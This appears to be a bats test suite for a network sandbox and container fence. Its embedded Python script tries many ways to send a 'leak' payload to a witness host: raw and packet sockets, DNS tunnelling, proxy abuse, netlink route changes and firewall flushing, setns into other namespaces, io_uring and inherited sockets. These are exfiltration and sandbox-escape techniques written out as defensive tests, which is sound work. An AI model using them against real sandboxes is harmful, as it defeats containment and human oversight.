# Ways out that a hostile program may try, from every place where it may stand: behind the front door, as root and as an ordinary
# user, and as root of an OCI container with every capability, of root's and of a user's. A witness on the host notes whatever
# reaches it, and each attempt is shown to reach it where nothing fences it, so that a test can fail.
load helpers

setup() {
	common_setup
	host_namespace
	start_witness
	start_proxy 1080
	start_web 203.0.113.7 80
	write_attempts
	POLICY=$TEST_DIR/policy.json
	TUN=preferred
}

# By both of the ways that TCP can go: root is spliced in a container and translated at the front door, a user the other way round.
place() {
	become "$1"
	local container=splice front_door=translate
	[ "$who" = root ] || container=translate front_door=splice
	NETWORK='{"proxies": ["socks5://127.0.0.1:1080"], "allow": ["203.0.113.7:80"], "tun": "'$TUN'", "datapath": "'$container'"}'
	echo '{ "network": { "proxyUrl": "socks5://127.0.0.1:1080", "allowedDomains": ["203.0.113.7:80"], "tun": "'$TUN'",
		"datapath": "'$front_door'" } }' >"$POLICY"
}

# Whatever reaches port 7777 or 53 of any address, an abstract socket, vsock, or a raw ICMP socket: $TEST_DIR/witness.log.
start_witness() {
	cat >"$TEST_DIR/witness.py" <<-'PY'
		import selectors, socket, sys
		selector = selectors.DefaultSelector()
		def listen(family, kind, address, protocol=0):
		    s = socket.socket(family, kind, protocol)
		    if family == socket.AF_INET6: s.setsockopt(41, socket.IPV6_V6ONLY, 1)
		    s.bind(address)
		    if kind == socket.SOCK_STREAM: s.listen(64)
		    s.setblocking(False)
		    selector.register(s, selectors.EVENT_READ, (kind.name, str(address)))
		for port in 7777, 53:
		    for family, address in (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"):
		        for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM: listen(family, kind, (address, port))
		listen(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + sys.argv[1])
		listen(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + sys.argv[1])
		for protocol in socket.IPPROTO_ICMP, 132, 136: listen(socket.AF_INET, socket.SOCK_RAW, ("203.0.113.7", 0), protocol) # and SCTP, UDP-Lite
		try: listen(socket.AF_VSOCK, socket.SOCK_STREAM, (socket.VMADDR_CID_ANY, 7777))
		except OSError as error: print("no vsock:", error)
		print("listening", flush=True)
		while True:
		    for key, _ in selector.select():
		        try:
		            if key.data[0] == "SOCK_STREAM": key.fileobj.accept()[0].close(); what = ""
		            else: what = key.fileobj.recv(4096)
		        except OSError: continue
		        print("reached", *key.data, what, flush=True)
	PY
	start witness /usr/bin/python3 "$TEST_DIR/witness.py" "$ID"
	wait_until grep -q listening "$TEST_DIR/witness.log"
}

write_attempts() {
	cat >"$TEST_DIR/attempts.py" <<-'PY'
		import ctypes, glob, os, socket, struct, subprocess, sys
		I4, I6, TCP, UDP, RAW = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
		libc = ctypes.CDLL(None, use_errno=True)
		def attempt(function, *arguments):
		    try: function(*arguments)
		    except OSError as error: print("no:", error)
		def run(*command):
		    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10, check=False)
		def send(to, kind=TCP, port=7777, options=(), source=None, data=b"leak"):
		    with socket.socket(I6 if ":" in to else I4, kind) as s:
		        s.settimeout(0.2)
		        for option in options: s.setsockopt(*option)
		        if source: s.bind((source, 0))
		        s.connect((to, port)); s.send(data)
		def checksum(data):
		    total = sum(struct.unpack("!%dH" % (len(data) // 2), data)); total = (total & 65535) + (total >> 16); return ~(total + (total >> 16)) & 65535
		def ipv4(source, to, protocol, payload):
		    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(to))
		    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
		def ipv6(source, to, protocol, payload):
		    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, 64, socket.inet_pton(I6, source), socket.inet_pton(I6, to)) + payload
		def udp(): return struct.pack("!HHHH", 7777, 7777, 12, 0) + b"leak"
		def syn(): return struct.pack("!HHIIBBHHH", 7777, 7777, 1, 0, 0x50, 2, 1000, 0, 0)
		hosts = "203.0.113.7", "2001:db8::7"

		def direct(_):
		    for to in hosts:
		        for kind in TCP, UDP: attempt(send, to, kind)
		        with socket.socket(I6 if ":" in to else I4, UDP) as s: attempt(s.sendto, b"leak", (to, 7777))
		        with socket.socket(I6 if ":" in to else I4, TCP) as s: attempt(s.sendto, b"leak", 0x20000000, (to, 7777)) # MSG_FASTOPEN
		        for kind, protocol in (TCP, 262), (TCP, 132), (5, 132), (UDP, 136): # Multipath TCP, SCTP by streams and packets, UDP-Lite
		            def by_protocol():
		                with socket.socket(I6 if ":" in to else I4, kind, protocol) as s: s.settimeout(0.2); s.connect((to, 7777)); s.send(b"leak")
		            attempt(by_protocol)
		def other_addresses(_):
		    for to in ("203.0.113.8", "198.51.100.7", "127.0.0.1", "127.9.9.9", "::1", "0.0.0.0", "::", "::ffff:203.0.113.8", "::ffff:127.0.0.1",
		            "64:ff9b::203.0.113.8", "2002:cb00:7108::1", "255.255.255.255"):
		        for kind in TCP, UDP: attempt(send, to, kind)
		def proxy(_): # whoever reaches the proxy reaches everything
		    def ask(to):
		        with socket.socket(I6 if ":" in to else I4) as s:
		            s.settimeout(0.5); s.connect((to, 1080)); s.send(b"\5\1\0"); s.recv(2)
		            s.send(b"\5\1\0\1" + socket.inet_aton("203.0.113.7") + struct.pack("!H", 7777)); s.recv(10)
		    for to in "127.0.0.1", "203.0.113.7", "203.0.113.8", "::ffff:127.0.0.1": attempt(ask, to)
		def listener(_):
		    names = "203.0.113.7", "127.0.0.1", "127.1", "2130706433", "0x7f.1", "localhost", "localhost.", "::ffff:127.0.0.1", "::1", "[::1]", "203.0.113.7\0.example"
		    for to in ("127.0.0.1",):
		        for command in 1, 2, 3:
		            for target in [b"\1" + socket.inet_aton(n) for n in ("203.0.113.7", "127.0.0.1", "0.0.0.0")] + \
		                    [b"\4" + socket.inet_pton(I6, n) for n in ("::1", "::ffff:203.0.113.7", "2001:db8::7")] + \
		                    [b"\3" + bytes([len(n)]) + n.encode() for n in names]:
		                attempt(send, to, TCP, 18321, (), None, b"\5\1\0\5" + bytes([command]) + b"\0" + target + struct.pack("!H", 7777) + b"leak")
		def dns(_):
		    query = b"\1\2\1\0\0\1\0\0\0\0\0\0\x06secret\x06tunnel\x03org\0\0\x10\0\1"
		    for to in hosts + ("203.0.113.8", "127.0.0.1", "192.0.2.53"):
		        attempt(send, to, UDP, 53, (), None, query)
		        attempt(send, to, TCP, 53, (), None, struct.pack("!H", len(query)) + query)
		def raw(_):
		    for protocol, payload in (17, udp()), (6, syn()), (1, b"\x08\0\xf7\xff\0\0\0\0"), (47, bytes(8)), (132, bytes(12)), (136, udp()), (41, ipv6("2001:db8::1", "2001:db8::7", 17, udp())):
		        def by_raw():
		            with socket.socket(I4, RAW, protocol) as s: s.sendto(payload, ("203.0.113.7", 0))
		        def by_header(source):
		            with socket.socket(I4, RAW, 255) as s: s.sendto(ipv4(source, "203.0.113.7", protocol, payload), ("203.0.113.7", 0))
		        attempt(by_raw)
		        for source in "198.18.0.1", "127.0.0.1", "203.0.113.7": attempt(by_header, source)
		    def by_raw6():
		        with socket.socket(I6, RAW, 17) as s: s.sendto(udp(), ("2001:db8::7", 0))
		    def ping():
		        with socket.socket(I4, UDP, 1) as s: s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("203.0.113.7", 0))
		    attempt(by_raw6); attempt(ping)
		    for device in "tun0", "lo":
		        for kind, packets in (0x0800, (ipv4("198.18.0.1", "203.0.113.7", 17, udp()), ipv4("198.18.0.1", "203.0.113.7", 6, syn()))), \
		                (0x86dd, (ipv6("fd66:656e:6365::c612:1", "2001:db8::7", 17, udp()),)):
		            for packet in packets:
		                def by_packet():
		                    with socket.socket(socket.AF_PACKET, UDP, socket.htons(kind)) as s: s.sendto(packet, (device, kind))
		                attempt(by_packet)
		def ipv6_tricks(_):
		    for to in "2001:db8::7", "ff02::1%lo", "ff05::1", "fe80::1%lo", "fd66:656e:6365::c612:1", "::203.0.113.7":
		        for kind in TCP, UDP: attempt(send, to, kind)
		    def with_extensions(options):
		        with socket.socket(I6, UDP) as s:
		            s.setsockopt(41, options, b"\0\0\1\4\0\0\0\0"); s.sendto(b"leak", ("2001:db8::7", 7777))
		    for options in 54, 59: attempt(with_extensions, options)
		def sources(_):
		    FREEBIND, TRANSPARENT, FREEBIND6, TRANSPARENT6 = (0, 15, 1), (0, 19, 1), (41, 78, 1), (41, 75, 1)
		    for to, options, own in ("203.0.113.7", (FREEBIND, TRANSPARENT), ("203.0.113.7", "127.0.0.1", "198.51.100.9", "198.18.0.1")), \
		            ("2001:db8::7", (FREEBIND6, TRANSPARENT6), ("2001:db8::7", "::1", "2001:db8:9::9")):
		        for source in own:
		            for kind in TCP, UDP:
		                attempt(send, to, kind, 7777, (), source)
		                for option in options: attempt(send, to, kind, 7777, (option,), source)
		def devices(_):
		    for device in b"lo", b"tun0", b"eth0":
		        for to in hosts:
		            for kind in TCP, UDP:
		                attempt(send, to, kind, 7777, ((1, 25, device),))
		                attempt(send, to, kind, 7777, ((1, 36, 0xfe9ce),))
		                attempt(send, to, kind, 7777, ((1, 25, device), (1, 36, 1)))
		def netlink(_):
		    for change in ("link add veth0 type veth peer name veth1", "link add m0 link tun0 type macvlan", "link add d0 type dummy", "address add 203.0.113.9/24 dev lo",
		            "route add 203.0.113.7/32 dev lo", "route add local 203.0.113.7/32 dev lo", "rule add pref 1 lookup 255", "link set tun0 netns 1",
		            "link add link lo name v0 type vlan id 1", "link add wg0 type wireguard", "link add g0 type gre local 198.18.0.1 remote 203.0.113.7", "link set g0 up"):
		        run("ip", *change.split())
		    run("nft", "flush", "ruleset"); run("sysctl", "-w", "net.ipv4.ip_forward=1")
		    direct(_)
		    run("ip", "link", "set", "tun0", "down"); direct(_); run("ip", "link", "del", "tun0"); direct(_)
		def proc(_):
		    for path in sorted(glob.glob("/proc/[0-9]*/ns/net") + glob.glob("/proc/[0-9]*/task/*/ns/net") + glob.glob("/proc/[0-9]*/ns/user")):
		        pid = os.fork()
		        if pid == 0:
		            try: fd = os.open(path, os.O_RDONLY); libc.setns(fd, 0); direct(_)
		            finally: os._exit(0)
		        os.waitpid(pid, 0)
		    for path in glob.glob("/proc/[0-9]*/net/tcp") + glob.glob("/proc/[0-9]*/net/unix"):
		        try: text = open(path).read()
		        except OSError: continue
		        if ":1E61 " in text or _ in text: print("sees the host's sockets by", path) # 7777; the witness's abstract name
		    for flags in 0x40000000, 0x50000000: # unshare(CLONE_NEWNET), with CLONE_NEWUSER
		        pid = os.fork()
		        if pid == 0:
		            try: libc.unshare(flags); run("ip", "link", "set", "lo", "up"); direct(_)
		            finally: os._exit(0)
		        os.waitpid(pid, 0)
		def vsock(_):
		    for cid in 0, 1, 2, 3:
		        def connect():
		            with socket.socket(40, TCP) as s: s.settimeout(0.2); s.connect((cid, 7777))
		        attempt(connect)
		def abstract(name):
		    for kind in TCP, UDP:
		        def connect():
		            with socket.socket(socket.AF_UNIX, kind) as s: s.connect("\0" + name); s.send(b"leak")
		        attempt(connect)
		def io_uring(_):
		    parameters = (ctypes.c_uint32 * 30)()
		    ring = libc.syscall(425, 4, parameters)
		    if ring < 0: return print("no:", os.strerror(ctypes.get_errno()))
		    import mmap
		    sq = mmap.mmap(ring, parameters[16] + parameters[0] * 4, offset=0)         # sq_off.array + entries
		    sqes = mmap.mmap(ring, parameters[0] * 64, offset=0x10000000)
		    address = ctypes.create_string_buffer(struct.pack("=HHI8x", I4, socket.htons(7777), struct.unpack("=I", socket.inet_aton("203.0.113.7"))[0]))
		    text = ctypes.create_string_buffer(b"leak")
		    def submit(entry):
		        sqes[0:64] = entry.ljust(64, b"\0")
		        tail, = struct.unpack_from("=I", sq, parameters[11]); mask, = struct.unpack_from("=I", sq, parameters[12])
		        struct.pack_into("=I", sq, parameters[16] + 4 * (tail & mask), 0); struct.pack_into("=I", sq, parameters[11], tail + 1)
		        libc.syscall(426, ring, 1, 1, 1, None, 0)
		    for kind in TCP, UDP:
		        s = socket.socket(I4, kind)
		        submit(struct.pack("=BBHiQQI", 16, 0, 0, s.fileno(), 16, ctypes.addressof(address), 0))  # IORING_OP_CONNECT
		        submit(struct.pack("=BBHiQQI", 26, 0, 0, s.fileno(), 0, ctypes.addressof(text), 4))      # IORING_OP_SEND
		def inherited(_):
		    for fd in range(3, 1024):
		        try: os.fstat(fd)
		        except OSError: continue
		        try: os.write(fd, b"leak")
		        except OSError: pass
		        attempt(lambda: socket.socket(fileno=os.dup(fd)).send(b"leak"))

		globals()[sys.argv[1]](sys.argv[2])
		print("tried")
	PY
}

# in_container NETWORK-JSON CMD…: as root, with every capability, of an OCI container that sees this machine's programs.
in_container() {
	local network=$1 number
	number=$(find "$TEST_DIR" -maxdepth 2 -name 'bundle*' | wc -l)
	BUNDLE=${BUNDLE%/*}/bundle-$number
	make_bundle '.process.capabilities |= map_values(["CAP_NET_ADMIN", "CAP_NET_RAW", "CAP_NET_BIND_SERVICE", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE",
			"CAP_DAC_OVERRIDE", "CAP_SETUID", "CAP_SETGID"])' \
		'.process.env = ["PATH=/usr/sbin:/usr/bin:/bin"]' '.mounts += [{"destination": "/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro"]},
			{"destination": "/lib", "type": "bind", "source": "/usr/lib", "options": ["rbind", "ro"]},
			{"destination": "/lib64", "type": "bind", "source": "/usr/lib64", "options": ["rbind", "ro"]}]' \
		'.linux.readonlyPaths = [] | .linux.maskedPaths = []'
	edit_config --arg hook "$FILE_DIR/fence-network" --arg test "$TEST_DIR" '.mounts += [{destination: "/attempts", type: "bind", source: $test, options: ["rbind", "ro"]}] |
		.hooks = {createRuntime: [{path: $hook, args: ["fence-network", "up"]}], poststop: [{path: $hook, args: ["fence-network", "down"]}]}'
	(umask 077 && printf '%s\n' "$network" >"$BUNDLE/network.json")
	give "$BUNDLE"
	bundle_args "${@:2}"
	as_who "${BEFORE[@]}" "$FENCE" --root "$STATE" run --bundle "$BUNDLE" "$ID"
}

# attempts WHAT [CONTROL]: from everywhere, and nothing reaches the witness; from the host itself something does, unless CONTROL
# says why not.
attempts() {
	local what=$1 control=${2:-}
	for who in $EVERYONE; do
		place "$who"
		cp "$TEST_DIR/attempts.py" .
		give attempts.py
		runs fence --policy "$POLICY" -- /usr/bin/python3 attempts.py "$what" "$ID"
		has tried
		hasnt sees
		[ "$what" != vsock ] || continue # no network namespace has a vsock of its own: it takes a policy's filter, which this container lacks
		runs in_container "$NETWORK" /usr/bin/python3 /attempts/attempts.py "$what" "$ID"
		has tried
		hasnt sees
	done
	pause
	[ "$(grep -v '^no vsock' "$TEST_DIR/witness.log")" = listening ] || { cat "$TEST_DIR/witness.log" && return 1; } >&2
	[ -z "$control" ] || return 0
	in_host /usr/bin/python3 "$TEST_DIR/attempts.py" "$what" "$ID"
	wait_until grep -q reached "$TEST_DIR/witness.log"
}

@test "what is allowed gets out from each of the places" {
	for who in $EVERYONE; do
		place "$who"
		runs fence --policy "$POLICY" -- curl -sS --max-time 10 http://203.0.113.7/
		is 'the page'
		runs in_container "$NETWORK" curl -sS --max-time 10 http://203.0.113.7/
		is 'the page'
	done
}

@test "no leak: direct sockets" {
	attempts direct
}

@test "no leak: raw and packet sockets" {
	attempts raw
}

@test "no leak: other addresses of the host, its loopback, addresses in disguise" {
	attempts other_addresses
}

@test "no leak: the proxy's own address" {
	attempts proxy
}

@test "no leak: the relay's listener, where there is no TUN" {
	TUN=never
	attempts listener 'there is none on the host'
}

@test "no leak: DNS, tunnelled to a resolver by its address" {
	attempts dns
}

@test "no leak: IPv6, its scopes and extension headers" {
	attempts ipv6_tricks
}

@test "no leak: source addresses of others" {
	attempts sources
}

@test "no leak: SO_BINDTODEVICE and SO_MARK" {
	attempts devices
}

@test "no leak: links, addresses, routes and rules made by netlink" {
	attempts netlink 'it would change the host'
}

@test "no leak: other namespaces by /proc, and new ones" {
	attempts proc 'it would enter those of everybody here'
}

@test "no leak: vsock" {
	require_kernel 'vsock over loopback' in_host /usr/bin/python3 -c '
import socket
l = socket.socket(40, 1); l.bind((0xffffffff, 7778)); l.listen(); c = socket.socket(40, 1); c.settimeout(2); c.connect((1, 7778))'
	attempts vsock
}

@test "no leak: abstract sockets" {
	attempts abstract
}

@test "no leak: io_uring" {
	attempts io_uring
}

@test "no leak: descriptors that were open before" {
	cat >"$TEST_DIR/with-sockets.py" <<-'PY'
		import os, socket, sys
		stream, datagram = socket.create_connection(("203.0.113.7", 7777)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		datagram.connect(("203.0.113.7", 7777))
		for s, fd in (stream, 20), (datagram, 21): os.dup2(s.fileno(), fd)
		os.execvp(sys.argv[1], sys.argv[1:])
	PY
	for who in $EVERYONE; do
		place "$who"
		cp "$TEST_DIR/attempts.py" .
		give attempts.py
		runs as_who /usr/bin/python3 "$TEST_DIR/with-sockets.py" "$FENCE" --policy "$POLICY" -- /usr/bin/python3 attempts.py inherited x
		has tried
		BEFORE=(/usr/bin/python3 "$TEST_DIR/with-sockets.py")
		runs in_container "$NETWORK" /usr/bin/python3 /attempts/attempts.py inherited x
		BEFORE=()
		has tried
	done
	pause
	fails grep -F leak "$TEST_DIR/witness.log"
	in_host /usr/bin/python3 "$TEST_DIR/with-sockets.py" /usr/bin/python3 "$TEST_DIR/attempts.py" inherited x
	wait_until grep -qF leak "$TEST_DIR/witness.log"
}
